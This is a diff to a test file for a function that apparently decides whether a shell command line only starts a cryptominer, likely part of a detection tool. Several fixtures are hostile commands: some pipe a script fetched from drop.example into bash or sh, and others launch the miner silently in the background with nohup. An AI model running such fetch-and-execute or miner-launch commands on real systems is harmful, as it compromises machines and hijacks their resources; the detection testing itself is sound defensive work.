@@ -11,6 +11,7 @@ describe('a command line is wholly the miner’s', () => {
     `( ${miner} & ) > /dev/null`,
     `{ pgrep nextd || ${miner}; } >/dev/null 2>&1`,
     `(curl -s http://drop.example/a || python -c "import urllib2 as f; print f.urlopen('http://drop.example/a').read()") | bash`,
+    'cd1 -fsSL http://drop.example/a.sh | sh > /dev/null 2>&1',
     `[ -x ${miner} ] && nohup ${miner} >/dev/null 2>&1 &`,
   ])('where all of it starts the miner: %s', (command) => {
     expect(isWhollyTheMiners(command, files)).toBe(true);
@@ -22,6 +23,8 @@ describe('a command line is wholly the miner’s', () => {
     `python3 -c "import app; app.run()"; ${miner}`,
     `(${miner}) && systemctl start nginx`,
     `cat /etc/motd; ${miner}`,
+    `report http://house.example/a | tee log; ${miner}`,
+    `report --to http://house.example/a; ${miner}`,
   ])('not where it does something else: %s', (command) => {
     expect(isWhollyTheMiners(command, files)).toBe(false);
   });
